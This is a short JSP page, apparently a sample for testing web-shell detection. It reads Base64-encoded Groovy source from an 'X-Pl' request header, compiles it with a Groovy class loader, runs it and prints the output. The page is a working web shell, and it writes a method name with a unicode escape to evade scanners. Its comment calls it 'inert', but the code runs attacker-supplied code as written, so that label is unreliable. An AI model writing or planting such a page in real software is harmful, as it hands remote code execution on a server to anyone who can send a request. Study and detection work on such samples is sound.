<%@ page import="java.util.Base64" %>
<%-- test sample (inert): Groovy source carried Base64-encoded in a header, compiled into a class with
     a Groovy class loader and instantiated; names written with unicode escapes --%>
<%
    String h = request.getHeader("X-Pl");
    if (h != null) {
        String s = new String(Base64.getDecoder().decode(h), "UTF-8");
        groovy.lang.GroovyClassLoader g = new groovy.lang.GroovyClassLoader(getClass().getClassLoader());
        Class<?> k = g.\u0070arseClass(s);
        Object o = k.getDeclaredConstructor().newInstance();
        out.print(o.toString());
    }
%>
